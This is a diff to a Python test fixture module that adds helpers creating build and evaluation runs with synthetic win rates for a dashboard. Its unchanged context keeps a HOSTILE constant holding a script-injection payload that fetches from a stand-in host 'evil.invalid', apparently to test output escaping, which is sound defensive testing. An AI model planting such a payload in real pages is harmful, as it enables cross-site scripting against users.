@@ -7,11 +7,13 @@ import random
 from pathlib import Path
 from typing import Any
 
+import numpy as np
 from factories import make_project
 from loop_runs import generated, judged
 
 from annotate.records import content_id, output_rows, table_from_rows, text_message
 from annotate.runs import Project, Run, RunPlan
+from annotate.statistics import win_rate
 
 HOSTILE = (
     "<script>window.pwned = 1; fetch('http://evil.invalid/script')</script>"
@@ -111,6 +113,39 @@ def make_training(project: Project, *, round: int = 1, steps: int = 40) -> Run:
     return draft.run
 
 
+def make_build(project: Project, judge_run: Run, kept: int) -> Run:
+    """A finished build run, as far as the manifest goes."""
+    dropped = {"votes": 4, "agreement": 36 - kept}
+    plan = RunPlan("build", judge_run.round, (judge_run,))
+    with project.draft(plan) as draft:
+        draft.note(pairs=40, kept=kept, dropped=dropped, quarantined=0)
+    return draft.run
+
+
+def make_evaluation(project: Project, train_run: Run, *rates: float) -> Run:
+    """A finished evaluate run: win rates against the previous and the round 0 model."""
+    roles = [["previous"], ["round 0"]] if len(rates) == 2 else [["previous", "round 0"]]
+    comparisons = [
+        {
+            "versus": f"m-{whose[0]}",
+            "roles": whose,
+            "win_rate": proportion_of(rate),
+            "judged_by": {"scorer:support-rubric": 180, "people": 20},
+        }
+        for whose, rate in zip(roles, rates, strict=True)
+    ]
+    with project.draft(RunPlan("evaluate", train_run.round, (train_run,))) as draft:
+        draft.note(model=train_run.id, comparisons=comparisons)
+    return draft.run
+
+
+def proportion_of(rate: float, n: int = 200) -> dict[str, Any]:
+    """An estimate as the evaluate step records it."""
+    rng = np.random.default_rng(0)
+    outcomes = rng.permutation(np.arange(n) < rate * n).astype(float)
+    return win_rate(outcomes, [f"p{number}" for number in range(n)]).to_dict()
+
+
 def round_to(value: float) -> float:
     """Four decimals, as a log has."""
     return float(f"{value:.4f}")
@@ -130,8 +165,8 @@ def make_judged(project: Project, *, round: int = 1, n: int = 40) -> Run:
 def make_dashboard_project(folder: Path) -> Project:
     """A project with runs for every page."""
     project = make_project(folder)
-    for round in (1, 2):
-        make_judged(project, round=round)
-        make_training(project, round=round)
+    for round, rates in ((1, (0.71,)), (2, (0.58, 0.78))):
+        make_build(project, make_judged(project, round=round), kept=round + 24)
+        make_evaluation(project, make_training(project, round=round), *rates)
     make_failures(project)
     return project
